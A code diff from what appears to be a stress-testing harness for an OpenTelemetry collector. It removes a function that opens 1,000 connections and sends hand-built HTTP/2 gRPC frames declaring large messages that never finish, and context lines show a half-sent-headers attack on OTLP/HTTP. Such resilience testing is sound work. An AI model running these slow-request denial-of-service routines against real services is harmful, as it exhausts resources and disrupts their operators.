@@ -121,43 +121,6 @@ def empty_members_of_an_answer(field: Field) -> None:
     field.hold(3)
 
 
-@attack("1,000 silent connections to OTLP/gRPC, 64 of them with requests that do not end", section=2, sources=EMBEDDED)
-def silent_grpc(field: Field) -> None:
-    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
-    with opened(field, 1000, tls=False, port=field.otlp_grpc) as connections:
-        for one in connections[:64]:
-            sent([one], preface)
-            for stream in (1, 3, 5, 7):
-                sent([one], _export_head(stream) + _data(stream, (4 * 2**20).to_bytes(5, "big")))
-                for _ in range(9):
-                    sent([one], _data(stream, b"x" * 16_000))
-        field.hold(1)
-
-
-def _export_head(stream: int) -> bytes:
-    path = b"/opentelemetry.proto.collector.metrics.v1.MetricsService/Export"
-    pairs = (
-        (b":method", b"POST"),
-        (b":scheme", b"http"),
-        (b":path", path),
-        (b":authority", b"x"),
-        (b"te", b"trailers"),
-    )
-    block = b"".join(
-        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
-        for name, value in (*pairs, (b"content-type", b"application/grpc"))
-    )
-    return _frame(1, 4, stream, block)
-
-
-def _data(stream: int, body: bytes) -> bytes:
-    return _frame(0, 0, stream, body)
-
-
-def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
-    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body
-
-
 @attack("500 half-sent heads to OTLP/HTTP", section=2, sources=EMBEDDED)
 def half_sent_to_otlp(field: Field) -> None:
     with opened(field, 500, tls=False, port=field.otlp_http) as connections:
